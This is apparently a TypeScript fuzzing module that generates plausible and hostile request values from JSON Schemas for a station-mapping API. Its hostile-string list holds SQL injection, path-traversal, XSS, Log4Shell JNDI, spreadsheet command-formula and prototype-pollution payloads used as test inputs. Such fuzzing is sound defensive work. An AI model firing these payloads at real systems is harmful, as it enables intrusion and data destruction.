/**
 * Values from JSON Schemas, for requests: plausible ones (inside the schema, and where a field names
 * something real, values from the real data: existing ids, region codes, points in the district) and
 * hostile ones (outside the schema and outside what JSON and query strings usually carry).
 */
import fc from 'fast-check';

/** A JSON token written exactly as given: 1e400, -0, 123456789012345678901234567890. */
export class Raw {
  constructor(readonly text: string) {}
}

/** A query-string value sent without percent-encoding: %, %zz, a lone %E4%B8. */
export class RawQuery {
  constructor(readonly text: string) {}
}

/** What the running data set has, read between requests. */
export type PoolName =
  | 'stationId'
  | 'activityId'
  | 'regionCode'
  | 'townshipCode'
  | 'villageCode'
  | 'stationName'
  | 'townshipName'
  | 'villageName'
  | 'username'
  | 'stationLon'
  | 'stationLat'
  /** The township and village of each station, in the order of stationLon: a point's own places. */
  | 'stationRegion'
  | 'stationVillage';

/** A value taken from a pool when the request is sent (ids change as the fuzzer writes). */
export class Pick {
  constructor(
    readonly pool: PoolName,
    readonly n: number,
  ) {}
}

export type Pools = Record<PoolName, (string | number | null)[]>;

/**
 * A coordinate near an existing station (streets are there, so nearby, isochrone and placement
 * requests get past "too far from any street"), `offset` degrees away. The lon and lat of one
 * object or query are aligned to the same station when sent.
 */
export class Near {
  constructor(
    readonly axis: 'lon' | 'lat',
    readonly k: number,
    readonly offset: number,
  ) {}
}

/** Makes a lat Near follow the lon Near's station, so the point is near one real station. */
export function alignNear(lon: unknown, lat: unknown): unknown {
  return lon instanceof Near && lat instanceof Near ? new Near('lat', lon.k, lat.offset) : lat;
}

/**
 * In a plausible object, a lat that goes with a lon near a station is near the same station (the two
 * are generated apart, and a lon near one station with a lat near another is mostly outside).
 */
export function alignPoint<T>(o: T): T {
  const v = o as Record<string, unknown>;
  if (!(v.lon instanceof Near) || !('lat' in v)) return o;
  const offset = v.lat instanceof Near ? v.lat.offset : 0;
  return { ...v, lat: new Near('lat', v.lon.k, offset) } as T;
}

/** The township or village of the station a Near lon names, so that a place and its codes agree. */
export function alignPlace(lon: unknown, value: unknown): unknown {
  return lon instanceof Near && value instanceof Pick && /^station(Region|Village)$/.test(value.pool)
    ? new Pick(value.pool, lon.k)
    : value;
}

/** Replaces every Pick with its pool's current value. */
export function resolvePicks(value: unknown, pools: Pools): unknown {
  if (value instanceof Pick) {
    const pool = pools[value.pool];
    if (!pool || pool.length === 0) return value.n + 1;
    return pool[value.n % pool.length];
  }
  if (value instanceof Near) {
    const pool = pools[value.axis === 'lon' ? 'stationLon' : 'stationLat'] as number[];
    if (!pool || pool.length === 0) return value.offset;
    return Math.round((pool[value.k % pool.length] + value.offset) * 1e7) / 1e7;
  }
  if (Array.isArray(value)) return value.map((v) => resolvePicks(v, pools));
  if (value && typeof value === 'object' && !(value instanceof Raw) && !(value instanceof RawQuery)) {
    // Own keys only, kept own: a "__proto__" key must stay a key, not become the prototype.
    const v = value as Record<string, unknown>;
    const out = Object.fromEntries(
      Object.keys(v).map((k) => [
        k,
        resolvePicks(k === 'lat' ? alignNear(v.lon, v.lat) : alignPlace(v.lon, v[k]), pools),
      ]),
    );
    if (v.endsAt instanceof Later) {
      const start = Date.parse(String(out.startsAt));
      const end = new Date((Number.isFinite(start) ? start : Date.now()) + v.endsAt.minutes * 60_000);
      // A start at the end of time (+275760-09-13) has no later end: send the start again.
      out.endsAt = Number.isFinite(end.getTime()) ? end.toISOString() : out.startsAt;
    }
    return out;
  }
  return value;
}

export function containsPick(value: unknown): boolean {
  if (value instanceof Pick || value instanceof Near || value instanceof Later) return true;
  if (Array.isArray(value)) return value.some(containsPick);
  if (value && typeof value === 'object') return Object.keys(value).some((k) => containsPick((value as any)[k]));
  return false;
}

/** JSON text, with Raw tokens as written and "__proto__" keys kept as keys. */
export function toJson(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (value instanceof RawQuery) return JSON.stringify(value.text);
  if (value === undefined) return 'null';
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (value && typeof value === 'object')
    return `{${Object.keys(value)
      .filter((k) => (value as any)[k] !== undefined)
      .map((k) => `${JSON.stringify(k)}:${toJson((value as any)[k])}`)
      .join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}

/** Text for a query string or a path segment. */
export function toQueryText(value: unknown): string {
  if (value instanceof RawQuery) return value.text;
  if (value instanceof Raw) return percentEncode(value.text);
  if (typeof value === 'number' && Object.is(value, -0)) return '-0';
  if (typeof value === 'string') return percentEncode(value);
  if (value === null) return 'null';
  if (typeof value === 'object') return percentEncode(toJson(value));
  return percentEncode(String(value));
}

/** encodeURIComponent, except that a lone surrogate goes out as its (ill-formed) UTF-8 bytes. */
function percentEncode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    let out = '';
    for (const ch of text) {
      const cu = ch.charCodeAt(0);
      if (ch.length === 1 && cu >= 0xd800 && cu <= 0xdfff)
        out += [0xe0 | (cu >> 12), 0x80 | ((cu >> 6) & 0x3f), 0x80 | (cu & 0x3f)]
          .map((b) => `%${b.toString(16).toUpperCase()}`)
          .join('');
      else out += encodeURIComponent(ch);
    }
    return out;
  }
}

export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  minProperties?: number;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
}

/** What the plausible values lean on: the district's bounds, the time, the demo accounts. */
export interface World {
  bbox: [number, number, number, number];
  now: number;
  accounts: { username: string; password: string }[];
}

const LONG = 'x'.repeat(5000);
const LONG_CJK = '文明实践'.repeat(1250);

/** Scalars that break parsers, as strings (for queries, paths and JSON strings). */
export const HOSTILE_STRINGS: string[] = [
  '',
  ' ',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '0x1',
  '0b1',
  '0o7',
  '1e3',
  '1_000',
  '2147483648',
  '-2147483649',
  '4294967296',
  '9007199254740993',
  '18446744073709551616',
  '123456789012345678901234567890',
  '1.7976931348623157e309',
  '0.1e-320',
  '１２',
  '١٢',
  '12abc',
  ' 12 ',
  '+12',
  '--1',
  '1,2',
  '1;2',
  'true',
  'false',
  'null',
  'undefined',
  '[]',
  '{}',
  '[1,2]',
  '{"a":1}',
  '\u0000',
  'a\u0000b',
  '\u0000'.repeat(64),
  '\r\n',
  '\t',
  '\u202e\u0646\u0635',
  '\ud800',
  '\udfff\ud800',
  'e\u0301\u0301\u0301\u0301',
  '😀👩‍👩‍👧‍👦🇨🇳',
  '\ufeff',
  '\u200b',
  '中文',
  '张三',
  LONG,
  LONG_CJK,
  "' OR 1=1 --",
  "'; DROP TABLE stations; --",
  '" OR ""="',
  '%',
  '_',
  '%_%',
  '\\',
  '\\x00',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://x/a}',
  "=cmd|' /C calc'!A0",
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

/** JSON tokens that JavaScript reads as something odd (Infinity, -0, rounded integers). */
export const HOSTILE_NUMBER_TOKENS: string[] = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '-0.0',
  '0.0',
  '1E3',
  '1e3',
  '2147483648',
  '-2147483649',
  '4294967296',
  '9007199254740993',
  '-9007199254740993',
  '18446744073709551616',
  '123456789012345678901234567890',
  '1.7976931348623157e308',
  '5e-324',
  '0.30000000000000004',
  '1.5',
  '-1',
  '0',
  '1e20',
];

/** Values of the wrong JSON type, and structures where a scalar is expected. */
export function wrongTypes(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      '',
      [],
      {},
      [null],
      [1, 2, 3],
      { a: 1 },
      Object.fromEntries([['__proto__', { polluted: true }]]),
      { constructor: { prototype: { polluted: true } } },
      Object.fromEntries([['__proto__', null]]),
    ),
    fc.constantFrom(...HOSTILE_NUMBER_TOKENS).map((t) => new Raw(t)),
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.nat({ max: 60 }).map((d) => deepArray(d)),
    fc.jsonValue({ maxDepth: 3 }),
  );
}

function deepArray(depth: number): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}

export const nestedJson = (depth: number, kind: 'array' | 'object') =>
  kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

const CJK_WORDS = [
  '文明实践站',
  '新时代',
  '青川',
  '幸福院',
  '志愿服务',
  '理论宣讲',
  '广场舞',
  '中心',
  '社区',
  '村',
  '街道',
  '张*明',
  '李四',
  '王小二',
  '活动',
];
const cjkText = (max: number) =>
  fc
    .array(fc.constantFrom(...CJK_WORDS), { minLength: 1, maxLength: 6 })
    .map((w) => w.join(''))
    .map((s) => s.slice(0, Math.max(1, max)));

/** Opening hours: the first VALID_HOURS are readable (OSM syntax, or Chinese the server converts). */
const HOURS = [
  'Mo-Fr 08:30-17:30',
  'Mo-Fr 08:30-17:30; Sa 09:00-12:00',
  '24/7',
  'Mo-Su 09:00-12:00,14:00-18:00; PH off',
  'Tu-Su 09:00-17:00; Mo off',
  'off',
  'Mo-Fr 17:00-08:00',
  'Jan-Mar Mo 10:00-12:00',
  '周一至周五 9:00-17:00',
  '每天 8:00-20:00',
  '周末 9:00-17:00',
  '全天',
  '',
  'sunrise-sunset',
  'week 1-53/2 Fr 09:00-12:00',
  'Mo-Fr 25:00-26:00',
  '周一至周五 9:00-17:00，节假日休息',
  '24小时',
  '闭馆',
  '节假日休息',
  '看情况',
  'Mo-Fr 08:30-17:30 "按预约"',
  'Mo-Fr 08:30-17:30 ||',
];
const VALID_HOURS = 13;

/** ISO date-times with a zone near the demo's time, as a client sends them. */
function isoDateTimes(world: World): fc.Arbitrary<string> {
  const span = 30 * 86_400_000;
  return fc.oneof(
    fc
      .integer({ min: world.now - span, max: world.now + span })
      .map((t) => new Date(Math.round(t / 900_000) * 900_000).toISOString()),
    fc.integer({ min: world.now - span, max: world.now + span }).map((t) => {
      const d = new Date(Math.round(t / 900_000) * 900_000 + 8 * 3_600_000);
      return `${d.toISOString().slice(0, 19)}+08:00`;
    }),
  );
}

/**
 * An end a little after the start of the same object (resolved when sent, like Near), so that an
 * activity's times are plausible together.
 */
export class Later {
  constructor(readonly minutes: number) {}
}

/** ISO date-times and dates near the demo's time, in every form people send, some of them wrong. */
function dateTimes(world: World): fc.Arbitrary<string> {
  const span = 60 * 86_400_000;
  return fc.oneof(
    { weight: 4, arbitrary: isoDateTimes(world) },
    fc
      .integer({ min: world.now - span, max: world.now + span })
      .map((t) => new Date(Math.round(t / 900_000) * 900_000).toISOString()),
    fc.integer({ min: world.now - span, max: world.now + span }).map((t) => {
      const d = new Date(t + 8 * 3_600_000);
      return `${d.toISOString().slice(0, 19)}+08:00`;
    }),
    fc.integer({ min: world.now - span, max: world.now + span }).map((t) => new Date(t).toISOString().slice(0, 10)),
    fc.constantFrom(
      '2026-11-24T09:00:00+08:00',
      '2026-11-24T10:00:00+08:00',
      '2026-11-24',
      '2026-11-24T09:00:00',
      '2026-11-24 09:00',
      '2026-02-30T09:00:00Z',
      '2026-13-45T25:61:61Z',
      '2026-11-24T09:00:00+25:00',
      '+275760-09-13T00:00:00.000Z',
      '-271821-04-20T00:00:00.000Z',
      '0000-01-01T00:00:00Z',
      '9999-12-31T23:59:59.999+14:00',
      '1970-01-01T00:00:00Z',
      '2026-11-24T09:00:00.123456789Z',
      '2026-W48-2',
      'now',
      'yesterday',
      '1732406400000',
    ),
  );
}

export type Where = 'query' | 'path' | 'body';

export interface ValueContext {
  world: World;
  /** The property or parameter name. */
  name: string;
  /** The operation's path, for names that depend on it (`id`). */
  path: string;
  where: Where;
}

/** Values that name real things, where a field's name says what it is. */
function hinted(schema: JsonSchema, ctx: ValueContext): fc.Arbitrary<unknown> | null {
  const { world, name } = ctx;
  const [w, s, e, n] = world.bbox;
  const pad = 0.02;
  const inRange = (lo: number, hi: number) => fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
  const pick = (pool: PoolName) => fc.nat({ max: 100_000 }).map((k) => new Pick(pool, k));
  switch (name) {
    case 'lon':
    case 'lat': {
      const near = fc
        .tuple(fc.nat({ max: 100_000 }), fc.double({ min: -0.004, max: 0.004, noNaN: true }))
        .map(([k, d]) => new Near(name, k, d));
      const [lo, hi] = name === 'lon' ? [w, e] : [s, n];
      return fc.oneof(
        { weight: 8, arbitrary: near },
        { weight: 1, arbitrary: inRange(lo - pad, hi + pad) },
        fc.constantFrom(...(name === 'lon' ? [116.6, 0, -180, 180] : [36.17, 0, -90, 90])),
      );
    }
    case 'regionCode':
      return fc.oneof({ weight: 5, arbitrary: pick('stationRegion') }, pick('townshipCode'), pick('regionCode'));
    case 'region':
    case 'parent':
      return fc.oneof({ weight: 6, arbitrary: pick('townshipCode') }, pick('regionCode'), pick('villageCode'));
    case 'code':
      return ctx.where === 'path'
        ? fc.oneof({ weight: 2, arbitrary: pick('villageCode') }, pick('townshipCode'), pick('regionCode'))
        : null;
    case 'remove':
      return schema.type === 'integer' ? pick('stationId') : null;
    case 'villageCode':
      return fc.oneof({ weight: 4, arbitrary: pick('stationVillage') }, pick('villageCode'), fc.constant(null));
    case 'stationId':
    case 'station':
      return pick('stationId');
    case 'id':
      if (ctx.where === 'path') return pick(ctx.path.startsWith('/api/activities') ? 'activityId' : 'stationId');
      return pick('stationId');
    case 'hours':
      return fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...HOURS.slice(0, VALID_HOURS)) },
        fc.constantFrom(...HOURS),
      );
    case 'startsAt':
      return fc.oneof({ weight: 6, arbitrary: isoDateTimes(world) }, dateTimes(world));
    case 'endsAt':
      return fc.oneof(
        { weight: 12, arbitrary: fc.integer({ min: 15, max: 8 * 60 }).map((m) => new Later(m)) },
        { weight: 2, arbitrary: isoDateTimes(world) },
        dateTimes(world),
      );
    case 'from':
    case 'to':
      return dateTimes(world);
    case 'minutes':
      if (schema.type === 'string')
        return fc.constantFrom('15', '15,10,5', '5', '10', '30', '60', '0.5', '45', '5,10,15', '20,20');
      return fc.oneof(inRange(1, 60), fc.constantFrom(1, 5, 10, 15, 30, 60));
    case 'offroad':
      return fc.oneof(fc.constantFrom(0, 100, 500), inRange(0, 500));
    case 'name':
    case 'title':
      if (ctx.path.includes('/auth/')) return null;
      return fc.oneof(cjkText(schema.maxLength ?? 100), pick('stationName'));
    case 'username':
      return fc.oneof(
        fc.constantFrom(...world.accounts.map((a) => a.username)),
        fc.constantFrom('root', 'Admin', ' admin', 'admin '),
      );
    case 'password':
      return fc.oneof(fc.constantFrom(...world.accounts.map((a) => a.password)), fc.constantFrom('password', 'admin'));
    case 'requester':
      return fc.oneof(cjkText(schema.maxLength ?? 50), fc.constant(null));
    case 'contactName':
      return cjkText(schema.maxLength ?? 50);
    case 'contactPhone':
      return fc.oneof(
        fc.nat({ max: 9999 }).map((k) => `1390000${String(k).padStart(4, '0')}`),
        fc.nat({ max: 9999 }).map((k) => `+86 139 0000 ${String(k).padStart(4, '0')}`),
        fc.constantFrom('(0538) 123-4567', ''),
      );
    case 'q':
      return fc.oneof(
        pick('stationName').map((p) => p),
        fc.constantFrom('站', '实践', '%', '_', "'", '\\', '中心', 'a'),
      );
    case 'address':
    case 'description':
      return cjkText(schema.maxLength ?? 200);
    case 'lastEventId':
      return fc.oneof(fc.constantFrom(0, 1), fc.nat({ max: 200 }));
    default:
      return null;
  }
}

/** A value the schema accepts (mostly; hinted values may name things that no longer exist). */
export function plausible(schema: JsonSchema, ctx: ValueContext): fc.Arbitrary<unknown> {
  const hint = hinted(schema, ctx);
  const fromSchema = bySchema(schema, ctx);
  if (hint) return fc.oneof({ weight: 4, arbitrary: hint }, { weight: 1, arbitrary: fromSchema });
  return fromSchema;
}

function bySchema(schema: JsonSchema, ctx: ValueContext): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants) return fc.oneof(...variants.map((v) => plausible(v, ctx)));
  const type = Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
  switch (type) {
    case 'string':
      return stringIn(schema);
    case 'number': {
      const min = schema.minimum ?? -1e6;
      const max = schema.maximum ?? 1e6;
      return fc.oneof(
        { weight: 3, arbitrary: fc.double({ min, max, noNaN: true, noDefaultInfinity: true }) },
        fc.constantFrom(min, max, Math.min(max, Math.max(min, 0))),
        fc.integer({ min: Math.ceil(min), max: Math.floor(max) }),
      );
    }
    case 'integer': {
      const min = schema.minimum ?? -(2 ** 31);
      const max = schema.maximum ?? 2 ** 31 - 1;
      return fc.oneof({ weight: 3, arbitrary: fc.integer({ min, max }) }, fc.constantFrom(min, max));
    }
    case 'boolean':
      return ctx.where === 'body' ? fc.boolean() : fc.constantFrom<unknown>(true, false, 'true', 'false', '1', '0');
    case 'null':
      return fc.constant(null);
    case 'array': {
      const item = plausible(schema.items ?? {}, ctx);
      const maxLength = Math.min(schema.maxItems ?? 5, 5);
      const arr = schema.uniqueItems
        ? fc.uniqueArray(item, { maxLength, minLength: schema.minItems ?? 0, selector: (v) => toJson(v) })
        : fc.array(item, { maxLength, minLength: schema.minItems ?? 0 });
      return arr;
    }
    case 'object': {
      const props = schema.properties ?? {};
      const required = schema.required ?? [];
      const keys = Object.keys(props);
      const rec = fc
        .record(Object.fromEntries(keys.map((k) => [k, plausible(props[k], { ...ctx, name: k })])), {
          requiredKeys: required,
        })
        .map(alignPoint);
      const min = schema.minProperties ?? 0;
      if (min === 0 || keys.length === 0) return rec;
      return rec.chain((o) =>
        Object.keys(o).length >= min
          ? fc.constant(o)
          : fc
              .constantFrom(...keys)
              .chain((k) => plausible(props[k], { ...ctx, name: k }).map((v) => ({ ...o, [k]: v }))),
      );
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function stringIn(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 60;
  if (schema.format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2030-01-01T00:00:00Z'), noInvalidDate: true })
      .map((d) => d.toISOString());
  if (schema.pattern) {
    const re = new RegExp(schema.pattern);
    return fc.stringMatching(re).filter((s) => s.length >= min && s.length <= max);
  }
  return fc.oneof(
    { weight: 3, arbitrary: fc.string({ minLength: min, maxLength: Math.min(max, 30) }) },
    fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 20) }),
    fc.constant('字'.repeat(Math.max(min, Math.min(max, 5000)))),
  );
}

/** A value the schema refuses, or that JavaScript and SQL read oddly. */
export function hostile(schema: JsonSchema, ctx: ValueContext): fc.Arbitrary<unknown> {
  const own: fc.Arbitrary<unknown>[] = [];
  const type = Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants) for (const v of variants) own.push(hostile(v, ctx));
  if (schema.enum) {
    const words = schema.enum.map(String);
    own.push(
      fc
        .constantFrom(...words)
        .chain((wd) =>
          fc.constantFrom(wd.toUpperCase(), ` ${wd}`, `${wd} `, `${wd},`, `${wd}\u0000`, wd + wd, wd.slice(0, -1)),
        ),
      fc.constant(words.join(',')),
    );
  }
  if (type === 'number' || type === 'integer') {
    const min = schema.minimum;
    const max = schema.maximum;
    const tokens = [...HOSTILE_NUMBER_TOKENS];
    if (min !== undefined) tokens.push(String(min - 1), String(min - 1e-9));
    if (max !== undefined) tokens.push(String(max + 1), String(max + 1e-9));
    if (type === 'integer') tokens.push('1.5', '0.999999999999999999', '1.0', '1e0');
    own.push(fc.constantFrom(...tokens).map((t) => (ctx.where === 'body' ? new Raw(t) : t)));
    if (ctx.where === 'body') own.push(fc.constantFrom(...tokens));
  }
  if (type === 'string') {
    const max = schema.maxLength;
    if (max !== undefined) own.push(fc.constantFrom('a'.repeat(max + 1), '字'.repeat(max + 1), '😀'.repeat(max)));
    if (schema.minLength) own.push(fc.constant(''));
    if (schema.pattern) {
      const re = new RegExp(schema.pattern);
      own.push(
        fc.stringMatching(re).chain((v) => fc.constantFrom(`${v}x`, ` ${v}`, `${v}\n`, `${v},`, `${v}\u0000`, v + v)),
      );
    }
    if (schema.format === 'date-time') own.push(dateTimes(ctx.world));
  }
  if (type === 'array') {
    const item = schema.items ?? {};
    const n = (schema.maxItems ?? 10) + 1;
    own.push(
      plausible(item, ctx).map((v) => Array.from({ length: n }, () => v)),
      fc.array(hostile(item, ctx), { minLength: 1, maxLength: 3 }),
      plausible(item, ctx),
    );
  }
  if (type === 'object' && schema.properties) {
    const props = schema.properties;
    own.push(
      plausible(schema, ctx).map((o) => ({ ...(o as object), extra: 1 })),
      plausible(schema, ctx).map((o) => Object.fromEntries([...Object.entries(o as object), ['__proto__', { x: 1 }]])),
      plausible(schema, ctx).map((o) => {
        const copy = { ...(o as object) } as Record<string, unknown>;
        delete copy[(schema.required ?? Object.keys(props))[0]];
        return copy;
      }),
      fc.record(Object.fromEntries(Object.keys(props).map((k) => [k, hostile(props[k], { ...ctx, name: k })])), {
        requiredKeys: [],
      }),
    );
  }
  if (ctx.where !== 'body') {
    // Text-only positions: arrays through repeated keys, objects through brackets, broken escapes.
    own.push(
      fc.constantFrom(
        new RawQuery('%'),
        new RawQuery('%zz'),
        new RawQuery('%E4%B8'),
        new RawQuery('%00'),
        new RawQuery('%u0041'),
        new RawQuery('a%2Cb'),
        new RawQuery('+'),
        new RawQuery('%2B1'),
        new RawQuery('1%00'),
        new RawQuery('%C0%AE%C0%AE'),
      ),
    );
  }
  return fc.oneof(
    { weight: 3, arbitrary: own.length ? fc.oneof(...own) : wrongTypes() },
    { weight: 2, arbitrary: wrongTypes() },
  );
}
